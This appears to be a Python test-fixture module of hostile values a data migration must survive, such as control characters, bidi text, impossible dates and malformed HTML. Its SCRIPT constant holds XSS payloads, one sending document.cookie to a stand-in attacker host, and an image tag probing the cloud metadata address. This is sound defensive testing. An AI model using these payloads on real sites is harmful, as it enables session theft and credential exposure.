"""Values that a migration must survive. Where they are put is in the `hostile_*` modules."""

from __future__ import annotations

CONTROL = "NUL \x00, bell \x07, escape \x1b[31m, vertical tab \x0b, delete \x7f, C1 \x85\x9b end"
SURROGATE = "half a pair \ud83d and the other \udc00 half"
RIGHT_TO_LEFT = "\u202eמספר הזמנה\u202c مرحبا، أين طلبي؟ \u200f(שלום)"
EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈🇦🇹 e\u0301 \u200b\ufeff ﷽ 𝕳𝖊𝖑𝖕"
SCRIPT = (
    "<p onclick=\"alert(1)\">Hello</p><script>fetch('https://evil.example/'+document.cookie)</script>"
    '<img src=x onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe><a href="javascript:alert(4)">here</a>'
    "<style>body{display:none}</style><table><tr><td>unclosed"
)
IMAGES = (
    '<p>See <img src="cid:photo.1@mail.example" alt="photo"> and '
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"> and '
    '<img src="http://169.254.169.254/latest/meta-data/logo.png"> and <img src="cid:missing@nowhere.example"></p>'
)
IMPOSSIBLE = "2023-02-30 10:00:00"
ANCIENT = "0001-01-01 00:00:00"
LAST_YEAR = "9999-12-31 23:59:59"
FUTURE = "2041-05-05 08:00:00"
BEFORE_2015 = "2014-06-01 12:00:00"
ZERO = "0000-00-00 00:00:00"
NOWHERE = "99999999"
LOST_OPTION = "29001"
UNKNOWN_USER = "7777"


def long_text(size: int, unit: str = "All work and no play makes a long message. ") -> str:
    """Text of exactly `size` characters."""
    return (unit * (size // len(unit) + 1))[:size]
